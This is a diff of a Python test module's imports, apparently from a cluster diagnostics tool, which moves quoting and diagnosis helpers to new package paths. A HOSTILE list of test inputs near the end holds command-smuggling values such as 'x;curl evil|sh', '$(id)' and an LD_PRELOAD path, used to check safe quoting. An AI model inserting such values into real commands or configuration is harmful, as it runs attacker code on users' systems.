@@ -5,15 +5,16 @@ import shlex
 import pytest
 import yaml
 
-from aboard.checks.fix_values import format_yaml_value, join_quoted_names, quote_yaml
-from aboard.checks.network.connection_text import DIAGNOSES
-from aboard.checks.network.mesh_result import ConnectionAttempt
-from aboard.checks.train.training_rules import _parse_memory_fix
 from aboard.core.cluster.node_sets import quote_folded_names
 from aboard.core.decoding import DecodeError, IpAddress, decode
 from aboard.core.text.byte_sizes import format_size
-from aboard.diagnoses.nodes import fabric, network
 from aboard.diagnoses.untrusted import Untrusted
+from aboard.doctor.fabric import diagnoses as fabric
+from aboard.doctor.network import diagnoses as network
+from aboard.doctor.network.connection_text import DIAGNOSES
+from aboard.doctor.network.mesh_result import ConnectionAttempt
+from aboard.doctor.shared.fix_values import format_yaml_value, join_quoted_names, quote_yaml
+from aboard.trainer.checks.training_rules import _parse_memory_fix
 
 HOSTILE = ["x;curl evil|sh", "a'b", 'a", b: "c', "eth0, LD_PRELOAD: /tmp/x", "#", "$(id)", "a\nb", "-rf", "{}", "a: b"]
 
